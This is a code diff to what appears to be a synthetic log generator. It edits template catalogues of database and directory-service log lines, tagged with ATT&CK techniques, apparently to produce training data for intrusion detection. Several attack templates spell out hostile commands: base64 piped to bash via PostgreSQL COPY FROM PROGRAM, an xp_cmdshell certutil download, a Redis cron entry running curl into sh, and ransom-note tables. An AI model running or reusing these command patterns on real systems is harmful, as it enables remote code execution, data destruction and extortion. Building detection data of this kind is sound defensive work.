@@ -5,26 +5,26 @@ from generator.families.network.product_story import catalogue
 catalogue("network/product-database-servers", ("|{msg}", "={plain} {msg}", "={iso} {msg}"), r"""
 BF# [Note] Access denied for user '{adm}'@'{wan}' (using password: YES)
 PS# [Warning] Access denied for user '{word}'@'{any}' (using password: YES)
-BF [Warning] Host '{wan}' is blocked because of many connection errors ({many}), login of 'root' refused each time
 PT@T1505.001 [Note] 'CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'' by root@{wan}
-RB@T1485 {many} Query DROP DATABASE `{company}`; CREATE TABLE WARNING (id INT, warning TEXT, bitcoin_address TEXT) from {wan}
+RB@T1485 {many} Query DROP DATABASE `{company}`
++ {many} Query CREATE TABLE <<WARNING|README|PLEASE_READ>> (id INT, warning TEXT, bitcoin_address VARCHAR(100), email VARCHAR(100))
 BF# FATAL:  password authentication failed for user "postgres" client={wan}
 + DETAIL:  Connection matched pg_hba.conf line {n}: "host all all 0.0.0.0/0 md5"
 CI+@T1059.004,T1190 LOG:  statement: DROP TABLE IF EXISTS {word};CREATE TABLE {word}(cmd_output text);COPY {word} FROM PROGRAM 'echo {long}|base64 -d|bash'; client={wan}
-PT@T1098 LOG:  statement: CREATE ROLE {word} SUPERUSER LOGIN PASSWORD '***' client={wan} user=postgres, after {many} failures
+PT@T1098 LOG:  statement: CREATE ROLE {word} SUPERUSER LOGIN PASSWORD '***' client={wan} user=postgres
 BF# Logon       Error: 18456, Severity: 14, State: 8. Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {any}]
 PS# Logon       Login failed for user '{word}'. Reason: Could not find a login matching the name provided. [CLIENT: {wan}]
-CI@T1059.003,T1505.001 spid{n}       Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install. client {wan} login sa
+CI@T1059.003,T1505.001 spid{n}       Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.
 CI@T1059.003,T1505.001 spid{n}       xp_cmdshell: certutil -urlcache -f http://{wan}/{word}.exe c:\users\public\{word}.exe executed by sa
-PT@T1505.001 spid{n}       Using 'xpstar.dll' version; sp_OACreate 'WScript.Shell' by sa from {wan}; clr enabled changed from 0 to 1; SQL audit stopped
+PT@T1505.001 spid{n}       Configuration option 'Ole Automation Procedures' changed from 0 to 1. Run the RECONFIGURE statement to install.
 BF# ORA-01017: invalid username/password; logon denied; USERID: "<<SYS|SYSTEM|DBSNMP|SCOTT>>" HOST={any}
-BF ORA-28000: the account is locked: user SYSTEM, {n} failed logins from {wan} PROGRAM=hydra oci
-RX TNS-12508 listener: command <<SERVICES|LOG_FILE=/home/oracle/.rhosts>> from {wan}, TNS poison COMMAND=SERVICE_REGISTER_NSGR
+BF# ORA-28000: the account is locked; USERID: "<<SYSTEM|SYS|SCOTT|APPS>>" HOST={wan}
 BF# {"s":"I","c":"ACCESS","id":20249,"ctx":"conn{big}","msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","principalName":"{adm}","remote":"{wan}:{port}","error":"AuthenticationFailed: SCRAM authentication failed, storedKey mismatch"}}
-RB@T1485 {"s":"I","c":"COMMAND","ctx":"conn{big}","msg":"dropDatabase - starting","attr":{"db":"{company}","remote":"{wan}"}} insert READ__ME_TO_RECOVER_YOUR_DATA {"note":"send 0.01 BTC"}
+RB@T1485 {"s":"I","c":"COMMAND","ctx":"conn{big}","msg":"dropDatabase - starting","attr":{"db":"{company}"}}
++ {"s":"I","c":"STORAGE","id":20320,"ctx":"conn{big}","msg":"createCollection","attr":{"namespace":"<<READ__ME_TO_RECOVER_YOUR_DATA|README_TO_RESTORE|WARNING_HACKED>>.README"}}
 RX+ redis: {wan}:{port} CONFIG SET dir /var/spool/cron/; CONFIG SET dbfilename root; SET x "\n*/2 * * * * curl {wan2}/{word}|sh\n"; SAVE
-C2@T1105 redis: REPLICAOF {wan} {port} enabled (user request from '{wan}'), MODULE LOAD ./{word}.so
-EX@T1048 mysqldump of {n} databases by user {user}@{wan}, {huge} bytes sent, first connection of this address
+RX@T1190,T1105 redis: REPLICAOF {wan}:{port} enabled (user request from 'id={n} addr={wan2}:{port} fd=8 name= db=0 cmd=slaveof')
++ redis: Module 'system' loaded from ./<<exp|exp_lin|red2|{word}>>.so
 """, r"""
 MP. [Note] Access denied for user '{user}'@'{lan}' (using password: YES)
 MP. [Note] Access denied for user 'root'@'localhost' (using password: NO)
@@ -47,7 +47,7 @@ SY LOG:  checkpoints are occurring too frequently ({n} seconds apart)
 SY LOG:  automatic vacuum of table "{company}.public.orders": index scans: 1
 AD LOG:  statement: CREATE ROLE report_reader LOGIN; GRANT SELECT client=[local] user=postgres
 BA LOG:  statement: COPY public.orders TO stdout; user=backup client={lan} (pg_dump)
-MP. Logon       Login failed for user '{company}\{user}'. Reason: Failed to open the explicitly specified database '{word}'. [CLIENT: {any}]
+ER Logon       Login failed for user '{company}\{user}'. Reason: Failed to open the explicitly specified database '{word}'. [CLIENT: {lan}]
 SY spid{n}s     SQL Server has encountered {n} occurrence(s) of I/O requests taking longer than 15 seconds to complete on file [D:\Data\{company}.mdf]
 SY spid{n}      Error: 9002, Severity: 17. The transaction log for database '{company}' is full due to 'LOG_BACKUP'.
 SY spid{n}      Error: 823, Severity: 24, State: 2. The operating system returned error 21 (device not ready)
@@ -64,30 +64,24 @@ AD {"s":"I","c":"COMMAND","ctx":"conn{big}","msg":"dropDatabase - starting","att
 SY redis: WARNING overcommit_memory is set to 0! Background save may fail under low memory condition.
 SY redis: MASTER <-> REPLICA sync: Finished with success
 ER redis: MISCONF Redis is configured to save RDB snapshots, but it's currently unable to persist to disk
-SY redis: REPLICAOF {lan}:6379 enabled (user request from '{lan}', sentinel failover)
+SY redis: REPLICAOF {lan}:6379 enabled (user request from 'id={n} addr={lan2}:{port} fd=9 name=sentinel-cmd db=0 cmd=exec')
+SY redis: Module '<<ReJSON|search|timeseries|bf>>' loaded from /opt/redis-stack/lib/<<rejson|redisearch|redistimeseries|redisbloom>>.so
 BA mysqldump of {n} databases by {service}@localhost to /backup, {huge} bytes
 """)
 
 catalogue("network/product-directories", ("|{msg}", "={plain} {msg}"), r"""
 BF# slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=49 text= (BIND dn="cn=admin,dc={company}" from IP={any}:{port})
-PS# slapd[{n}]>> conn={big} op=0 BIND dn="uid={user2},ou=people,dc={company}" method=128 from {any}; RESULT err=49, account {n} of the same minute
-UE slapd[{n}]>> conn={big} op={n} SRCH base="ou=people,dc={company}" scope=2 filter="(uid={word}*)" from {wan}, {big} guesses in {few} minutes, nentries=0
+PS# slapd[{n}]>> conn={big} op=0 BIND dn="uid={user2},ou=people,dc={company}" method=128 IP={any}:{port} RESULT tag=97 err=49
+UE# slapd[{n}]>> conn={big} op={n} SRCH base="ou=people,dc={company}" scope=2 filter="(uid={word}*)" IP={wan}:{port} nentries=0
 BF# radiusd[{n}]>> ({big}) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [{user}/<via Auth-Type = MSCHAP>] (from client vpn port {n} cli {wan})
 PS# radiusd[{n}]>> ({big}) Invalid user: [{word}/<via Auth-Type = PAP>] (from client vpn port 0 cli {any})
-IX@T1210 radiusd[{n}]>> BlastRADIUS: {n} packets without Message-Authenticator with identical prefix from {any}, collision pattern, client nas{n}
-KD krb5kdc[{n}]>> TGS_REQ (1 etypes {rc4-hmac}) {lan}: ISSUE: {user}@{domain} for {many} different service principals within {few} seconds
-KD@T1558.004 krb5kdc[{n}]>> AS_REQ (1 etypes {rc4-hmac}) {any}: ISSUE without preauth for {many} users within a minute, client kinit of unknown host
+KD# krb5kdc[{n}]>> TGS_REQ (1 etypes {rc4-hmac}) {lan}: ISSUE: authtime {seconds}, etypes {rep=18 tkt=23 ses=23}, {user}@{domain} for <<MSSQLSvc|HTTP|CIFS|HOST|POP>>/{host}@{domain}
+KD#@T1558.004 krb5kdc[{n}]>> AS_REQ (1 etypes {rc4-hmac}) {any}: ISSUE: authtime {seconds}, etypes {rep=23 tkt=23 ses=23}, {user2}@{domain} for krbtgt/{domain}
 BF# krb5kdc[{n}]>> AS_REQ (8 etypes) {any}: PREAUTH_FAILED: {adm}@{domain} for krbtgt/{domain}, Preauthentication failed
-BF krb5kdc[{n}]>> LOCKED_OUT: {adm}@{domain} for krbtgt/{domain}, Client's credentials have been revoked, {n} failures from {any}
-PT+@T1098.007 ipa: [IPA.API] {user}@{domain}: group_add_member('admins', user=['{word}']): SUCCESS from {wan}
-CT@T1003.003 ipa: [IPA.API] {user}@{domain}: ldapsearch userPassword, krbPrincipalKey of {many} entries with Directory Manager from {any}
-KD@T1003.006 samba[{n}]>> drsuapi DsGetNCChanges with secrets for {many} objects requested by {user} from {lan}, which is no DC
-KD@T1098.007 samba: {"type":"groupChange","groupChange":{"action":"Added","user":"CN={word}","group":"CN=Domain Admins"},"remoteAddress":"ipv4:{wan}:{port}"}
-UE samba: {"Authentication":{"status":"NT_STATUS_NO_SUCH_USER","clientAccount":"{word}","remoteAddress":"ipv4:{lan}:{port}","authDescription":"ncacn_np guest enumeration, {many} names"}}
-DE+@T1484.002,T1556 adfs: relying party or token signing key exported: Event 307 configuration changed by {user} from {wan}, new claims provider trust {word}
+PT@T1098.007 samba: {"type":"groupChange","groupChange":{"action":"Added","user":"CN={word}","group":"CN=Domain Admins"},"remoteAddress":"ipv4:{wan}:{port}"}
+UE# samba: {"Authentication":{"status":"NT_STATUS_NO_SUCH_USER","clientAccount":"{word}","remoteAddress":"ipv4:{lan}:{port}","authDescription":"simple bind"}}
 PS# adfs: Event 411 token validation failed: {user2}@{domain}-The user name or password is incorrect, client {wan}
-AT@T1621 duo: {"result":"denied","reason":"user marked fraud","username":"{user}","ip":"{wan}","integration":"VPN","factor":"push"} after {n} pushes
-AT@T1621 NPS: user {user} received {many} approval requests within {few} minutes, last approved, client {wan}
+AT@T1621 duo: {"result":"denied","reason":"user marked fraud","username":"{user}","ip":"{wan}","integration":"VPN","factor":"push"}
 BF# NPS: IAS 6273 Network Policy Server denied access to a user. Account {adm}, Calling Station {any}, Reason Code 16
 """, r"""
 LO slapd[{n}]>> conn={big} op=0 BIND dn="uid={user},ou=people,dc={company}" mech=SIMPLE ssf=0
